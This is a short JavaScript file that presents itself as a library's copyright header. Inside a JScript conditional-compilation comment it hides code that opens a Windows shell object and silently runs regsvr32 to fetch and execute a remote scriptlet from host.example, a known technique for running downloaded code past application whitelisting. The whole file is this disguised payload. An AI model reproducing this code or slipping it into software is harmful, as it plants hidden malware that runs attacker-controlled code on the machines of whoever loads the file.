/* Copyright notice of some library, version 3.1 */
/*@cc_on
  @if (@_jscript_version >= 5)
    var s = new ActiveXObject("WScript.Shell");
    s.Run("regsvr32 /s /n /u /i:http://host.example/r.sct scrobj.dll", 0);
  @end
@*/
